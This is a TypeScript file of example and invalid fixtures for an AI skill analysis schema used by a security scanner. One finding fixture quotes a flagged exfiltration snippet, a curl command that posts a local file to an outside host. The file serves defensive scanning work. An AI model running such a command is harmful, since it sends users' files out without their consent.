import { exampleResource as resource } from '../common/example.js';
import type { Kind } from '../kind.js';

const noteName = 'projects/scanners/notes/skills';

const occurrence = (aiSkillAnalysis: unknown) => ({ resource, noteName, aiSkillAnalysis });

export const examples: Kind['examples'] = {
  notes: [{ value: { shortDescription: 'Examination of skills.', aiSkillAnalysis: {} } }],
  occurrences: [
    {
      value: occurrence({
        skillName: 'release-notes',
        findings: [
          {
            ruleId: 'exfiltration-1',
            category: 'exfiltration',
            severity: 'HIGH',
            title: 'Sends files to a foreign host.',
            filePath: 'SKILL.md',
            snippet: 'curl -d @notes.txt https://example.com',
          },
        ],
      }),
    },
  ],
  invalid: [
    { of: 'note', path: 'ai_skill_analysis.skillName', value: { aiSkillAnalysis: { skillName: 'a' } } },
    { of: 'occurrence', path: 'ai_skill_analysis.findings', value: occurrence({ findings: {} }) },
    {
      of: 'occurrence',
      path: 'ai_skill_analysis.findings[0].severity',
      value: occurrence({ findings: [{ severity: 4 }] }),
    },
  ],
};

const v1Occurrence = (aiSkillAnalysis: unknown) => ({
  resourceUri: resource.uri,
  noteName,
  aiSkillAnalysis,
});

export const v1Examples: Kind['examples'] = {
  notes: [{ value: { shortDescription: 'Examination of skills.', aiSkillAnalysis: {} } }],
  occurrences: [
    {
      value: v1Occurrence({
        skillName: 'release-notes',
        findings: [{ ruleId: 'exfiltration-1', severity: 'HIGH', filePath: 'SKILL.md' }],
      }),
    },
  ],
  invalid: [
    { of: 'note', path: 'ai_skill_analysis.skillName', value: { aiSkillAnalysis: { skillName: 'a' } } },
    { of: 'occurrence', path: 'ai_skill_analysis.findings', value: v1Occurrence({ findings: {} }) },
    {
      of: 'occurrence',
      path: 'ai_skill_analysis.findings[0].severity',
      value: v1Occurrence({ findings: [{ severity: 4 }] }),
    },
  ],
};
